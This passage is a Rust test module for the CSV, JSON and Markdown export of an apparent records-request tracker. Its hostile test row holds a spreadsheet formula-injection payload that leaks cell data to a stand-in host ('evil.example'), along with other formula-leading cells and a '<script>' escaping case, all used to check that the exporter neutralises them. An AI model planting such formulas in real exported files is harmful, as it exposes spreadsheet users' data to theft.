        let opt_str = |v: &Option<String>| v.clone().unwrap_or_default();
        let opt_date = |v: Option<NaiveDate>| {
            v.map(|d| d.format("%Y-%m-%d").to_string())
                .unwrap_or_default()
        };
        let opt_int = |v: Option<i64>| v.map(|n| n.to_string()).unwrap_or_default();
        let opt_dollars = |v: Option<f64>| match v {
            Some(x) if x.is_finite() => format!("{x:.2}"),
            _ => String::new(),
        };
        vec![
            r.id.to_string(),
            r.uid.clone(),
            opt_str(&r.team_ref),
            r.agency.clone(),
            r.agency_name.clone(),
            r.state.clone(),
            opt_str(&r.batch),
            r.title.clone(),
            r.template.clone(),
            r.status.clone(),
            opt_date(r.filed_on),
            opt_date(r.due_on),
            opt_str(&r.due_clock),
            opt_str(&r.flag),
            r.flags.join(", "),
            opt_int(r.days_overdue),
            opt_int(r.calendar_days_overdue),
            opt_date(r.waiting_since),
            r.paused_business_days.to_string(),
            opt_str(&r.tracking_number),
            opt_dollars(r.fees_requested),
            opt_dollars(r.fees_paid),
            opt_str(&r.last_event),
            opt_date(r.last_event_on),
            opt_date(r.answered_on),
            r.answered_on_time
                .map(|b| b.to_string())
                .unwrap_or_default(),
            opt_str(&r.next_action),
            opt_str(&r.citation),
            opt_str(&r.about),
        ]
    }

    #[test]
    fn cells_written_into_one_buffer_are_the_cells_made_one_by_one() {
        let mut rows = sample_rows();
        rows.push(hostile_row());
        let mut odd = hostile_row();
        odd.id = i64::MIN;
        odd.paused_business_days = i64::MAX;
        odd.days_overdue = Some(0);
        odd.filed_on = NaiveDate::from_ymd_opt(-44, 3, 15);
        odd.due_on = NaiveDate::from_ymd_opt(10_000, 1, 1);
        odd.waiting_since = NaiveDate::from_ymd_opt(0, 1, 1);
        odd.fees_requested = Some(f64::NAN);
        odd.fees_paid = Some(f64::INFINITY);
        odd.flags = vec!["overdue".into(), "needs-review".into()];
        odd.answered_on_time = Some(true);
        odd.batch = None;
        rows.push(odd);
        for r in &rows {
            assert_eq!(csv_cells(r), reference_cells(r), "{r:?}");
            // (Compared as text: a NaN fee is no equal of itself.)
            assert_eq!(format!("{:?}", r.as_ref().to_row()), format!("{r:?}"));
            // The borrowed row serialises as the owned one.
            assert_eq!(
                serde_json::to_string_pretty(&r.as_ref()).unwrap(),
                serde_json::to_string_pretty(r).unwrap()
            );
            // And its CSV record is the whole table's.
            let mut one = CsvRecords::new(&report_headers());
            one.report_row_ref(&r.as_ref());
            let mut bytes = Vec::new();
            one.write_to(&mut bytes).unwrap();
            assert_eq!(
                String::from_utf8(bytes).unwrap(),
                to_csv(std::slice::from_ref(r))
            );
        }
    }

    #[test]
    fn csv_headers_are_the_json_keys_in_field_order() {
        let json = to_json(&sample_rows()[..1]);
        let (headers, _) = read_csv(&to_csv(&sample_rows()));
        assert_eq!(headers.len(), CSV_COLUMNS.len());
        // Each header is a key of the serialised object, and they come in the same order.
        let positions: Vec<usize> = headers
            .iter()
            .map(|h| {
                json.find(&format!("\"{h}\": "))
                    .unwrap_or_else(|| panic!("{h} is no JSON key"))
            })
            .collect();
        assert!(positions.windows(2).all(|w| w[0] < w[1]), "{headers:?}");
        let v: serde_json::Value = serde_json::from_str(&json).expect("valid JSON");
        assert_eq!(v[0].as_object().map(|o| o.len()), Some(headers.len()));
    }

    #[test]
    fn csv_round_trips_every_field_and_neutralises_formulas() {
        let row = hostile_row();
        let text = to_csv(std::slice::from_ref(&row));
        let (headers, rows) = read_csv(&text);
        assert_eq!(rows.len(), 1);
        let got: std::collections::HashMap<&str, &str> = headers
            .iter()
            .map(String::as_str)
            .zip(rows[0].iter().map(String::as_str))
            .collect();
        let expected: &[(&str, &str)] = &[
            ("id", "-1"),
            ("uid", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            ("team_ref", "'-K7Q2M"),
            ("agency", "'+1"),
            ("agency_name", "'-x"),
            ("state", "'@SUM(A1:A9)"),
            ("batch", "'\tX"),
            ("title", "'\rX"),
            ("template", "a, b"),
            ("status", "say \"hi\""),
            ("filed_on", "2026-01-02"),
            ("due_on", ""),
            ("due_clock", "line one\nline two"),
            ("flag", "crlf\r\ninside"),
            ("flags", "crlf\r\ninside"),
            // Numeric columns: negative numbers stay numbers.
            ("days_overdue", "-3"),
            ("calendar_days_overdue", "-5"),
            ("waiting_since", ""),
            ("paused_business_days", "-2"),
            // A leading quote is no formula: left as typed.
            ("tracking_number", "'already quoted"),
            ("fees_requested", "-12.50"),
            ("fees_paid", "0.10"),
            ("last_event", ""),
            ("last_event_on", "2026-12-31"),
            ("answered_on", "2026-12-30"),
            ("answered_on_time", "false"),
            ("next_action", "über — 287(g) ✓"),
            ("citation", ""),
            ("about", ""),
        ];
        assert_eq!(expected.len(), CSV_COLUMNS.len());
        for (key, want) in expected {
            assert_eq!(got[key], *want, "column {key}");
        }
        // Numbers parse back to the values we put in.
        assert_eq!(got["fees_requested"].parse::<f64>(), Ok(-12.5));
        assert_eq!(got["fees_paid"].parse::<f64>(), Ok(0.1));
    }

    #[test]
    fn csv_uses_crlf_and_quotes_only_where_needed() {
        let text = to_csv(&[hostile_row()]);
        // Header + one record, each ended by CRLF; bare LFs only inside quoted cells.
        assert!(text.ends_with("\r\n"));
        assert!(text.starts_with("id,uid,team_ref,agency,agency_name,state,batch,title,"));
        assert!(text.contains(",\"a, b\","));
        assert!(text.contains(",\"say \"\"hi\"\"\","));
        assert!(text.contains(",-3,-5,,-2,"));
        assert!(text.contains(",-12.50,0.10,"));
        // Unquoted plain cells.
        assert!(text.contains(",2026-01-02,,"));
    }

    #[test]
    fn csv_of_sample_rows_round_trips_plain_fields() {
        let rows = sample_rows();
        let (_, parsed) = read_csv(&to_csv(&rows));
        assert_eq!(parsed.len(), 4);
        for (row, cells) in rows.iter().zip(&parsed) {
            assert_eq!(cells[0], row.id.to_string());
            assert_eq!(cells[2], row.team_ref.clone().unwrap_or_default());
            assert_eq!(cells[4], row.agency_name);
            assert_eq!(cells[7], row.title);
            assert_eq!(cells[10], opt_date(row.filed_on));
        }
        // The formula in row 3's tracking number is neutralised.
        assert_eq!(parsed[2][19], "'=HYPERLINK(\"http://x\")");
        assert_eq!(parsed[0][20], "1250.50");
    }

    #[test]
    fn streamed_json_and_csv_are_the_whole_table_bytes() {
        for rows in [sample_rows(), Vec::new(), vec![hostile_row()]] {
            let mut json = Vec::new();
            for (i, r) in rows.iter().enumerate() {
                json_array_item(&mut json, i, r).unwrap();
            }
            json_array_end(&mut json, rows.len()).unwrap();
            assert_eq!(String::from_utf8(json).unwrap(), to_json(&rows));
            let mut csv = CsvRecords::new(&report_headers());
            let mut bytes = csv.take();
            for r in &rows {
                csv.report_row(r);
                bytes.extend(csv.take());
            }
            assert_eq!(String::from_utf8(bytes).unwrap(), to_csv(&rows));
        }
    }

    #[test]
    fn csv_of_no_rows_is_the_header_alone() {
        let text = to_csv(&[]);
        assert_eq!(text.matches("\r\n").count(), 1);
        let (headers, rows) = read_csv(&text);
        assert_eq!(headers.len(), 29);
        assert!(rows.is_empty());
    }

    #[test]
    fn csv_table_keeps_numbers_and_neutralises_the_rest() {
        // cell -> expected cell after a round trip through the csv crate
        let cases: &[(&str, &str)] = &[
            ("-3", "-3"),
            ("12.50", "12.50"),
            ("-0.5", "-0.5"),
            ("0", "0"),
            ("-", "'-"),
            ("-x", "'-x"),
            ("+1", "'+1"),
            ("-1+1", "'-1+1"),
            ("1.", "1."),
            ("-.5", "'-.5"),
            ("=1+1", "'=1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tX", "'\tX"),
            ("\rX", "'\rX"),
            ("a,b", "a,b"),
            ("q\"uote", "q\"uote"),
            ("two\nlines", "two\nlines"),
            ("", ""),
        ];
        let rows: Vec<Vec<String>> = cases
            .iter()
            .map(|(c, _)| vec![c.to_string(), "x".into()])
            .collect();
        let text = csv_table(&["value", "other"], &rows);
        let (headers, parsed) = read_csv(&text);
        assert_eq!(headers, ["value", "other"]);
        assert_eq!(parsed.len(), cases.len());
        for ((cell, want), got) in cases.iter().zip(&parsed) {
            assert_eq!(got[0], *want, "cell {cell:?}");
            assert_eq!(got[1], "x");
        }
    }

    #[test]
    fn csv_table_pads_short_rows_and_drops_extra_cells() {
        let text = csv_table(
            &["a", "b"],
            &[vec!["1".into()], vec!["1".into(), "2".into(), "3".into()]],
        );
        assert_eq!(text, "a,b\r\n1,\r\n1,2\r\n");
    }

    #[test]
    fn json_has_snake_case_keys_iso_dates_and_nulls() {
        let rows = sample_rows();
        let text = to_json(&rows);
        let v: serde_json::Value = serde_json::from_str(&text).expect("valid JSON");
        let arr = v.as_array().expect("array");
        assert_eq!(arr.len(), 4);
        let first = &arr[0];
        assert_eq!(first["id"], 1);
        assert_eq!(first["agency"], "mecklenburg-so-nc");
        assert_eq!(first["filed_on"], "2026-10-01");
        assert_eq!(first["due_on"], "2026-11-02");
        assert_eq!(first["due_clock"], "response");
        assert_eq!(first["days_overdue"], 7);
        assert_eq!(first["calendar_days_overdue"], 9);
        assert_eq!(first["paused_business_days"], 3);
        assert_eq!(first["fees_requested"], 1250.5);
        assert!(first["fees_paid"].is_f64());
        assert_eq!(first["citation"], "N.C. Gen. Stat. § 132-6");
        assert_eq!(first["team_ref"], "K7Q2MX");
        let draft = &arr[3];
        for key in [
            "team_ref",
            "batch",
            "filed_on",
            "due_on",
            "due_clock",
            "flag",
            "days_overdue",
            "calendar_days_overdue",
            "tracking_number",
            "fees_requested",
            "fees_paid",
            "last_event",
            "last_event_on",
            "answered_on",
            "answered_on_time",
            "next_action",
            "citation",
        ] {
            assert!(draft[key].is_null(), "{key} should be null");
        }
        assert_eq!(draft.as_object().map(|o| o.len()), Some(29));
        // And it reads back into the same rows.
        let back: Vec<ReportRow> = serde_json::from_str(&text).expect("rows");
        assert_eq!(back, rows);
        assert!(text.ends_with("]\n"));
        assert_eq!(to_json(&[]), "[]\n");
    }

    #[test]
    fn markdown_escaping() {
        // input -> escaped cell, worked out from the rules in escape_markdown
        let cases: &[(&str, &str)] = &[
            ("plain text", "plain text"),
            ("a | b", "a \\| b"),
            ("one\ntwo", "one<br>two"),
            ("one\r\ntwo\rthree", "one<br>two<br>three"),
            ("<script>", "\\<script>"),
            (
                "</b> <!-- <?x <http://x>",
                "\\</b> \\<!-- \\<?x \\<http://x>",
            ),
            ("(n<5) a < b > c", "(n<5) a < b > c"),
            ("*bold* _it_", "\\*bold\\* \\_it\\_"),
            ("[link](x)", "\\[link\\](x)"),
            ("back\\slash", "back\\\\slash"),
            ("tab\there", "tab here"),
            ("§ 132-6 — ok", "§ 132-6 — ok"),
        ];
        for (input, want) in cases {
            assert_eq!(escape_markdown(input), *want, "input {input:?}");
        }
    }

    #[test]
    fn markdown_table_is_a_padded_pipe_table() {
        let t = markdown_table(
            &["Name", "N"],
            &[vec!["a|b".into(), "10".into()], vec!["x".into()]],
        );
        // "N" holds only figures: right-aligned.
        assert_eq!(
            t,
            "| Name |   N |\n\
             | ---- | --: |\n\
             | a\\|b |  10 |\n\
             | x    |     |\n"
        );
        let t = markdown_table(
            &["G", "Share", "Note"],
            &[
                vec!["a".into(), "67%".into(), "1".into()],
                vec!["b".into(), "n/a".into(), "x".into()],
            ],
        );
        assert!(t.contains("| --- | ----: | ---- |"), "{t}");
    }

    #[test]
    fn markdown_snapshot() {
        // No module prefix in the file name, so the snapshot survives a rename of the crate.
        insta::with_settings!({ prepend_module_to_snapshot => false }, {
            insta::assert_snapshot!("export_markdown_sample", to_markdown(&sample_rows()));
        });
    }

    #[test]
    fn markdown_has_one_line_per_row() {
        let md = to_markdown(&sample_rows());
        assert_eq!(md.lines().count(), 2 + 4);
        for line in md.lines() {
            assert!(line.starts_with("| ") && line.ends_with(" |"), "{line}");
        }
    }
}
